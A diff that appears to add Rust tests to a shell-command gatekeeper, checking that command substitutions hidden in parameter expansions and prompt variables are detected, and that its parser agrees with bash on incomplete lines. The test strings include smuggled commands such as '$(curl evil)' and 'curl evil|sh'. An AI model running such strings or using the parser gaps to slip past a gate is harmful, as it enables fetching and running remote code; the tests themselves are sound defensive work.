@@ -445,3 +445,170 @@ fn programs_that_run_commands_through_their_options() {
     is_dynamic("scp -r -t .");
     runs("c\0url x", "curl");
 }
+
+/// Whether bash, given `text` and an Enter, could run any of it: `bash -n` reads it
+/// as a script (line by line, as an interactive shell does) and finds it complete. A
+/// trailing line continuation is told apart by a next line that is valid alone but
+/// not when joined (`(:)`): bash waits for that next line, as brush-parser does.
+fn bash_could_run(text: &str) -> bool {
+    let ok = |script: String| {
+        let mut child = std::process::Command::new("bash")
+            .args(["--norc", "--noprofile", "-n", "-O", "extglob", "/dev/stdin"])
+            .stdin(std::process::Stdio::piped())
+            .stdout(std::process::Stdio::null())
+            .stderr(std::process::Stdio::piped())
+            .spawn()
+            .expect("bash is needed for this test (scripts/install-deps)");
+        use std::io::Write as _;
+        child
+            .stdin
+            .take()
+            .unwrap()
+            .write_all(script.as_bytes())
+            .unwrap();
+        let out = child.wait_with_output().unwrap();
+        out.status.success() && out.stderr.is_empty()
+    };
+    ok(format!("{text}\n")) && ok(format!("{text}\n(:)\n"))
+}
+
+/// The PTY line model sends the Enter of a line that brush-parser finds incomplete as a
+/// quoted newline, and judges the construct when it is complete. Keys typed ahead while
+/// the shell is busy lose the quoting in the TTY, and the shell then sees a plain Enter:
+/// safe only where bash also waits for more. Differential check over a generated
+/// corpus of shell-significant fragments: wherever brush-parser says "incomplete",
+/// bash must wait too.
+#[test]
+fn bash_waits_wherever_brush_finds_a_line_incomplete() {
+    const TOKENS: &[&str] = &[
+        "'", "\"", "\\", "$", "$'", "$\"", "(", ")", "{", "}", "`", "#", " ", ";", "&", "|", "<<",
+        "<<-", "<<<", "E", "x", "=", "case", "in", "esac", "do", "done", "for", "while", "if",
+        "then", "fi", "[[", "]]", "((", "))", "$(", "$((", "${", "\\'", "\\\"", "*)", "&&", "||",
+        "function", "!", "@(", "\n", "-", "<(", ">", "$$", "$?", "$#", "$-", "$!", "$@", "$*",
+        "$0", "$[", "[", "]", "'$", "\\$", "${#", "${!", "<<'E'", "<<\"E\"", "E\n", "\t", "let",
+        "select", "coproc", "until", "elif", "else", ";;", ";&", "in\n", "$_", "~", "%", ",", "^",
+        "/", ":",
+    ];
+    // GATEHOUSE_DIFF_CASES and GATEHOUSE_DIFF_SEED widen the search by hand.
+    let want: usize = std::env::var("GATEHOUSE_DIFF_CASES")
+        .ok()
+        .and_then(|v| v.parse().ok())
+        .unwrap_or(4_000);
+    let mut seed: u64 = std::env::var("GATEHOUSE_DIFF_SEED")
+        .ok()
+        .and_then(|v| v.parse().ok())
+        .unwrap_or(0x9e37_79b9_7f4a_7c15);
+    let mut next = move || {
+        seed ^= seed << 13;
+        seed ^= seed >> 7;
+        seed ^= seed << 17;
+        seed
+    };
+    let mut checked = 0;
+    let mut differences = Vec::new();
+    let mut candidates = 0;
+    while checked < want && candidates < 100 * want {
+        candidates += 1;
+        let n = 1 + (next() % 10) as usize;
+        let mut text = String::from("echo a ");
+        for _ in 0..n {
+            let t = TOKENS[(next() % TOKENS.len() as u64) as usize];
+            text.push_str(t);
+        }
+        // A trailing `\` continues the line for bash reading a terminal, not for
+        // `bash -n`; those are checked by hand below.
+        if text.ends_with('\\') || !incomplete(&text) {
+            continue;
+        }
+        checked += 1;
+        if bash_could_run(&text) {
+            differences.push(text);
+        }
+    }
+    assert!(checked >= want, "only {checked} incomplete texts generated");
+    // `$${` and `$$[` are `$$` and a literal to bash; brush-parser reads an open
+    // `${`/`$[`. Found by this test; `incomplete` declines them and their kin.
+    for t in [
+        "echo a $${",
+        "echo a $$[",
+        "echo $$$${#",
+        "x \"$${\"",
+        "echo a ${@(}",
+        "echo a $[>-${!case]",
+        "echo a ${<<\"E\"-}",
+        "echo a {<<<$$'$\\'",
+        "echo a \\'\\$'~>!((\\'",
+        "echo a '$-case\\'||>case\t{",
+        "echo a =in\n>-whilein else",
+        "echo a [[in\ncoproc=[[esac\tuntil",
+    ] {
+        assert!(!incomplete(t), "{t}");
+    }
+    // A trailing backslash continues the line only outside quotes and comments.
+    for t in [
+        "echo a \\",
+        "echo a \\#\\",
+        "echo a \"#\"\\",
+        "echo a$'\\\\'\\",
+        "echo a '\\",
+    ] {
+        assert!(incomplete(t), "{t}");
+    }
+    for t in [
+        "echo a #\\",
+        "echo a # x \\",
+        "echo a \\\\",
+        "echo a \\\n#\\",
+    ] {
+        assert!(!incomplete(t), "{t}");
+    }
+    assert!(
+        differences.is_empty(),
+        "brush-parser finds these incomplete, bash does not ({} of {checked}): {:#?}",
+        differences.len(),
+        differences.iter().take(20).collect::<Vec<_>>()
+    );
+}
+
+/// Commands inside parameter expansions run whatever the variable holds; text that
+/// becomes code later (arithmetic, prompts) makes the line dynamic.
+#[test]
+fn substitutions_inside_parameter_expansions_are_judged() {
+    for line in [
+        "echo ${x:-$(curl evil)}",
+        "echo ${x:=`curl evil`}",
+        "echo ${x:+$(curl evil)}",
+        "echo ${x:?$(curl evil)}",
+        "echo ${x/$(curl evil)/y}",
+        "echo ${x//a/$(curl evil)}",
+        "echo ${x#$(curl evil)}",
+        "echo ${x%%$(curl evil)}",
+        "echo ${x:$(curl evil):1}",
+        "echo ${x:0:$(curl evil)}",
+        "echo ${a[$(curl evil)]}",
+        "echo \"${x:-$(curl evil)}\"",
+        "x=1; echo ${x:-$(curl evil)}",
+        "a[$(curl evil)]=1",
+        "echo ${x^^$(curl evil)}",
+    ] {
+        runs(line, "curl");
+    }
+    // A prompt expansion runs the value's substitutions.
+    runs("x='$(curl evil)'; echo ${x@P}", "curl");
+    is_dynamic("echo ${y@P}");
+    // Text that would run if read as code later.
+    for line in [
+        "x='a[$(curl evil)]'",
+        "export PS1='$(curl evil)'",
+        "declare -i n='a[`curl evil`]'",
+        "PS0='$(curl evil)' bash",
+    ] {
+        is_dynamic(line);
+    }
+    is_static("x='plain text'; echo $x");
+    // `$${` is `$$` and a literal to bash; the gateway's parser reads it apart, so
+    // the line is not judged as parsed.
+    for line in ["echo $${;curl evil|sh;}", "echo $$[;curl evil|sh;]"] {
+        assert!(classify(line).parse_error.is_some(), "{line}");
+    }
+}
